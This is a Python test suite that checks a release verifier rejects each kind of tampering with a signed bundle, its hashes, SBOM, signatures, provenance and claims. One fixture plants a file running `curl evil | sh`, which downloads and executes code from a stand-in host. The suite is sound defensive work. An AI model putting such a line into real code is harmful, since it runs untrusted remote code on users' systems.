"""The tamper matrix of issue 4, key mode: each tampering is rejected by the right check.

Every test starts from a copy of one genuine key-signed release and changes one thing,
the way an attacker (or an accident) would, then asserts which check fails, its cause
and the words of its reason, and that the checks the tampering does not touch still
pass (so a failure is attributed precisely, not by a blanket "invalid").
Identity tampering (another repository, workflow, ref, issuer, identity) needs
certificates: it is in test_verify_keyless.py.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from release_kit import (
    KeyMaterial,
    ReleaseDir,
    copy_release,
    quiet,
    resign,
    rezip,
    sign_raw_statement,
    sign_to,
    statement,
    write_claim,
)

from mtf_action.attest.assets import SLSA_PROVENANCE_V1, load_claim
from mtf_action.attest.embedded import EMBEDDED_PAYLOAD, EMBEDDED_SIGNATURE
from mtf_action.models.verification import CheckName, VerificationResult
from mtf_action.signing.canonical import canonical_json
from mtf_action.signing.key_algorithms import KeyAlgorithm
from mtf_action.signing.keygen import generate_private_key
from mtf_action.signing.signers import KeySigner
from mtf_action.verify import VerifyOptions, verify_release

SIGNED = ("provenance", "claim", "sbom-attestation", "vsa")


def _verify(release: ReleaseDir, keys: KeyMaterial, **options: object) -> VerificationResult:
    return verify_release(
        VerifyOptions(bundle=release.bundle, key=keys.public, **options),  # type: ignore[arg-type]
        quiet(),
    )


def _status(result: VerificationResult) -> dict[CheckName, tuple[str, str | None]]:
    return {c.name: (c.status, c.cause) for c in result.checks}


def _fails(result: VerificationResult, name: CheckName, cause: str, *words: str) -> None:
    check = result.check(name)
    assert (check.status, check.cause) == ("fail", cause), check.reason
    for word in words:
        assert word in check.reason, check.reason
    assert result.exit_code == 1 and not result.verified and result.level is None


def _passes(result: VerificationResult, *names: CheckName) -> None:
    for name in names:
        assert result.check(name).status == "pass", result.check(name).reason


# -- the bundle ------------------------------------------------------------------------


def test_byte_changed_in_the_bundle(key_release: ReleaseDir, key_material: KeyMaterial) -> None:
    data = bytearray(key_release.bundle.read_bytes())
    data[len(data) // 2] ^= 0x01
    key_release.bundle.write_bytes(bytes(data))
    actual = hashlib.sha256(data).hexdigest()
    result = _verify(key_release, key_material)
    _fails(result, "bundle-digest", "bundle-sha256", f"has sha256 {actual}", key_release.sha256)
    for name in SIGNED:
        _fails(result, name, "subject", f"the artifact's sha256 is {actual}")


def test_bundle_rezipped_with_a_different_member_and_fresh_hashes(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    # The attacker rewrites hashes.json too; the signed subjects still catch it. The
    # AI-03 payload only covers manifest and SBOM, so the embedded signature holds.
    new = rezip(key_release, {"server/main.py": b"import os\nos.system('curl evil | sh')\n"})
    result = _verify(key_release, key_material)
    _passes(result, "bundle-digest", "embedded-signature")
    for name in SIGNED:
        _fails(result, name, "subject", f"but the artifact's sha256 is {new}")


def test_bundle_rezipped_with_a_member_added_and_hashes_untouched(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    rezip(key_release, {"server/extra.py": b"print('hi')\n"}, update_hashes=False)
    result = _verify(key_release, key_material)
    _fails(result, "bundle-digest", "bundle-sha256")


def test_hashes_forged_for_the_new_archive_but_not_its_members(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    original = json.loads(key_release.path("hashes").read_bytes())
    new = rezip(key_release, {"server/main.py": b"print('changed')\n", "x.py": b""})
    forged = json.loads(key_release.path("hashes").read_bytes())
    original["bundle"] = forged["bundle"]  # the archive digest updated, the members not
    key_release.path("hashes").write_text(json.dumps(original))
    result = _verify(key_release, key_material)
    _fails(
        result,
        "bundle-digest",
        "members",
        "content differs: server/main.py",
        "not listed in acme-clock-1.0.0.hashes.json: x.py",
    )
    assert result.check("bundle-digest").details["changed"] == ["server/main.py"]
    assert new == forged["bundle"]["sha256"]


def test_ai03_manifest_changed_inside_the_bundle(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    with zipfile.ZipFile(key_release.bundle) as archive:
        doc = json.loads(archive.read("manifest.json"))
    doc["description"] = "Tells the time. And reads your files."
    rezip(key_release, {"manifest.json": json.dumps(doc).encode()})
    result = _verify(key_release, key_material)
    _fails(result, "embedded-signature", "manifest-digest", "the signed payload covers manifest")
    _fails(result, "claim", "subject")


def test_ai03_embedded_signature_stripped(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    rezip(key_release, {EMBEDDED_PAYLOAD: None, EMBEDDED_SIGNATURE: None})
    result = _verify(key_release, key_material)
    _fails(
        result,
        "embedded-signature",
        "missing",
        f"the bundle has no {EMBEDDED_PAYLOAD}: it carries no MTF AI-03 signature",
    )


def test_ai03_embedded_signature_by_another_key(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    with zipfile.ZipFile(key_release.bundle) as archive:
        payload = archive.read(EMBEDDED_PAYLOAD)
    intruder = KeySigner(generate_private_key(KeyAlgorithm.ECDSA_P256))
    rezip(key_release, {EMBEDDED_SIGNATURE: intruder.sign_blob(payload)})
    result = _verify(key_release, key_material)
    _fails(result, "embedded-signature", "signature", "the bundle names another key")


# -- the SBOM --------------------------------------------------------------------------


def test_sc01_published_sbom_swapped(key_release: ReleaseDir, key_material: KeyMaterial) -> None:
    sbom = json.loads(key_release.path("sbom").read_bytes())
    sbom["components"] = [{"type": "library", "name": "left-pad", "version": "1.3.0"}]
    key_release.path("sbom").write_text(json.dumps(sbom))
    result = _verify(key_release, key_material)
    _fails(
        result, "bundle-digest", "sbom", "acme-clock-1.0.0.sbom.cdx.json differs from the bundle's"
    )
    _passes(result, *SIGNED, "embedded-signature")


def test_sc01_sbom_swapped_inside_the_bundle_with_fresh_hashes_and_loose_copy(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    sbom = json.loads(key_release.path("sbom").read_bytes())
    sbom["components"] = []
    sbom["metadata"]["component"]["name"] = "something-else"
    rezip(key_release, {"sbom.cdx.json": json.dumps(sbom).encode()}, update_sbom=True)
    result = _verify(key_release, key_material)
    _passes(result, "bundle-digest")
    _fails(result, "embedded-signature", "sbom-digest", "the signed payload covers SBOM sha256")
    _fails(result, "sbom-attestation", "subject")


def test_sc01_sbom_attestation_of_another_sbom(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    # Signed by the right key, about the right bundle, but not the SBOM it contains.
    names = key_release.names
    predicate = {"bomFormat": "CycloneDX", "specVersion": "1.6", "components": []}
    sign_to(
        key_material.signer,
        statement(names.bundle, key_release.sha256, "https://cyclonedx.org/bom", predicate),
        key_release.path("sbom_attestation"),
    )
    result = _verify(key_release, key_material)
    _fails(result, "sbom-attestation", "predicate", "differs from the bundle's sbom.cdx.json")


# -- statements of another version or another bundle ----------------------------------


@pytest.mark.parametrize(
    ("assets", "check"),
    [
        (("provenance",), "provenance"),
        (("claim", "claim_signature"), "claim"),
        (("sbom_attestation",), "sbom-attestation"),
        (("vsa",), "vsa"),
    ],
)
def test_statement_of_another_version(
    key_release: ReleaseDir,
    key_release_next_version: ReleaseDir,
    key_material: KeyMaterial,
    assets: tuple[str, ...],
    check: CheckName,
) -> None:
    for asset in assets:
        shutil.copyfile(key_release_next_version.path(asset), key_release.path(asset))
    result = _verify(key_release, key_material)
    _fails(
        result,
        check,
        "subject",
        f"statement subject 'acme-clock-1.0.1.mcpb' has sha256 {key_release_next_version.sha256}",
        f"but the artifact's sha256 is {key_release.sha256}",
    )
    others = [n for n in ("bundle-digest", *SIGNED, "embedded-signature") if n != check]
    _passes(result, *others)  # type: ignore[arg-type]


def test_claim_file_of_another_version_beside_this_signature(
    key_release: ReleaseDir, key_release_next_version: ReleaseDir, key_material: KeyMaterial
) -> None:
    shutil.copyfile(key_release_next_version.path("claim"), key_release.path("claim"))
    result = _verify(key_release, key_material)
    _fails(
        result,
        "claim",
        "claim-bytes",
        "acme-clock-1.0.0.mcpb.mtf-claim.json is not the payload signed in",
    )


def test_pr03_provenance_of_another_bundle_under_this_name(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    other = hashlib.sha256(b"another bundle").hexdigest()
    sign_to(
        key_material.signer,
        statement(key_release.names.bundle, other, SLSA_PROVENANCE_V1, {"n": 1}),
        key_release.path("provenance"),
    )
    result = _verify(key_release, key_material)
    _fails(result, "provenance", "subject", f"has sha256 {other}")


def test_statement_with_two_subjects_is_refused_even_if_one_matches(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    # One statement for two artifacts invites confused-deputy reuse: refused outright.
    names = key_release.names
    document = {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [
            {"name": names.bundle, "digest": {"sha256": key_release.sha256}},
            {"name": "other.mcpb", "digest": {"sha256": "ab" * 32}},
        ],
        "predicateType": SLSA_PROVENANCE_V1,
        "predicate": {"buildDefinition": {}, "runDetails": {}},
    }
    sign_raw_statement(key_material.key, document, key_release.path("provenance"))
    result = _verify(key_release, key_material)
    _fails(result, "provenance", "statement", "has 2 subjects; exactly one is required")


def test_pr03_provenance_with_another_predicate_type(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    sign_to(
        key_material.signer,
        statement(
            key_release.names.bundle,
            key_release.sha256,
            "https://slsa.dev/provenance/v0.2",
            {"builder": {"id": "x"}},
        ),
        key_release.path("provenance"),
    )
    result = _verify(key_release, key_material)
    _fails(result, "provenance", "predicate-type", "expected 'https://slsa.dev/provenance/v1'")


def test_pr03_provenance_without_a_builder(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    predicate = {
        "buildDefinition": {"buildType": "https://x/y", "externalParameters": {}},
        "runDetails": {},
    }
    sign_to(
        key_material.signer,
        statement(key_release.names.bundle, key_release.sha256, SLSA_PROVENANCE_V1, predicate),
        key_release.path("provenance"),
    )
    result = _verify(key_release, key_material)
    _fails(
        result, "provenance", "predicate", "not a SLSA Provenance v1 predicate: /runDetails/builder"
    )


# -- the claim -------------------------------------------------------------------------


def test_claim_edited_after_signing(key_release: ReleaseDir, key_material: KeyMaterial) -> None:
    data = key_release.path("claim").read_bytes()
    key_release.path("claim").write_bytes(data.replace(b'"verified":1', b'"verified":4'))
    assert key_release.path("claim").read_bytes() != data
    result = _verify(key_release, key_material)
    _fails(result, "claim", "claim-bytes", "edited after signing")
    _passes(result, "bundle-digest", "provenance", "sbom-attestation", "embedded-signature")


def _resign_claim(release: ReleaseDir, keys: KeyMaterial, edit: dict[str, object]) -> None:
    claim = load_claim(release.path("claim").read_bytes())
    predicate = claim.predicate.model_copy(update=edit)
    write_claim(release, keys.signer, claim.model_copy(update={"predicate": predicate}))


def test_resigned_claim_naming_another_package(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    claim = load_claim(key_release.path("claim").read_bytes())
    package = claim.predicate.package.model_copy(update={"name": "acme-clock-pro"})
    _resign_claim(key_release, key_material, {"package": package})
    result = _verify(key_release, key_material)
    _fails(
        result,
        "claim",
        "package",
        "the claim is about acme-clock-pro 1.0.0, the bundle's manifest says acme-clock 1.0.0",
    )


@pytest.mark.parametrize("field", ["manifest", "sbom"])
def test_resigned_claim_with_a_wrong_digest(
    key_release: ReleaseDir, key_material: KeyMaterial, field: str
) -> None:
    claim = load_claim(key_release.path("claim").read_bytes())
    digests = claim.predicate.digests.model_copy(update={field: "0" * 64})
    _resign_claim(key_release, key_material, {"digests": digests})
    result = _verify(key_release, key_material)
    _fails(result, "claim", f"digest-{field}", f"is {'0' * 64}")


def test_resigned_claim_lying_about_its_signer(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    claim = load_claim(key_release.path("claim").read_bytes())
    signing = claim.predicate.signing.model_copy(
        update={
            "mode": "sigstore",
            "identity": "https://github.com/acme/clock/.github/workflows/release.yml@refs/tags/v1.0.0",
        }
    )
    _resign_claim(key_release, key_material, {"signing": signing})
    result = _verify(key_release, key_material)
    _fails(result, "claim", "signing", "but the signature is key by sha256:")


def test_claim_that_breaks_the_schema(key_release: ReleaseDir, key_material: KeyMaterial) -> None:
    document = json.loads(key_release.path("claim").read_bytes())
    document["predicate"]["level"]["verified"] = 7
    sign_raw_statement(key_material.key, document, key_release.path("claim_signature"))
    key_release.path("claim").write_bytes(canonical_json(document))
    result = _verify(key_release, key_material)
    _fails(result, "claim", "schema", "not an MTF claim: /predicate/level/verified")


def _overclaim(release: ReleaseDir, keys: KeyMaterial, level: int) -> None:
    """The publisher's key signs a claim (and a VSA) for a level the bundle does not reach."""
    claim = load_claim(release.path("claim").read_bytes())
    raised = claim.predicate.level.model_copy(update={"verified": level})
    _resign_claim(release, keys, {"level": raised})
    resign(keys.signer, release.path("vsa"), {"verifiedLevels": [f"MTF_LEVEL_{level}"]})


def test_claim_whose_level_exceeds_a_rescan(
    key_release: ReleaseDir, key_material: KeyMaterial
) -> None:
    _overclaim(key_release, key_material, 3)
    trusting = _verify(key_release, key_material, min_level=3)
    # Every signature is genuine: without --rescan nothing can tell.
    assert trusting.exit_code == 0 and trusting.level == 3
    result = _verify(key_release, key_material, rescan=True, min_level=3)
    _passes(result, "claim", "vsa")
    _fails(
        result,
        "rescan",
        "level",
        "the claim says MTF level 3 was verified, a rescan of the bundle verifies level 1",
        "not satisfied at level 3:",
    )
    _fails(result, "min-level", "level", "the verified MTF level is 1, below the required 3")
    assert result.check("rescan").details["rescan_level"] == 1


def test_vsa_contradicting_the_claim(key_release: ReleaseDir, key_material: KeyMaterial) -> None:
    resign(key_material.signer, key_release.path("vsa"), {"verifiedLevels": ["MTF_LEVEL_2"]})
    result = _verify(key_release, key_material)
    _fails(result, "vsa", "levels", "disagree with the claim's verified level (MTF_LEVEL_1)")


def test_vsa_by_another_verifier(key_release: ReleaseDir, key_material: KeyMaterial) -> None:
    resign(
        key_material.signer, key_release.path("vsa"), {"verifier": {"id": "https://example.com/v"}}
    )
    result = _verify(key_release, key_material)
    _fails(result, "vsa", "verifier", "'https://example.com/v'")


def test_manifest_claiming_a_level_the_bundle_misses_fails_the_vsa(
    key_release_overclaimed: ReleaseDir, key_material: KeyMaterial, tmp_path: Path
) -> None:
    release = copy_release(key_release_overclaimed, tmp_path / "release")
    result = _verify(release, key_material, rescan=True)
    # The claim is honest (claimed 3, verified 1), and so is the VSA: FAILED.
    _passes(result, "claim", "rescan")
    assert result.check("claim").details["level"] == {"claimed": 3, "verified": 1}
    _fails(result, "vsa", "result", "verificationResult 'FAILED'")
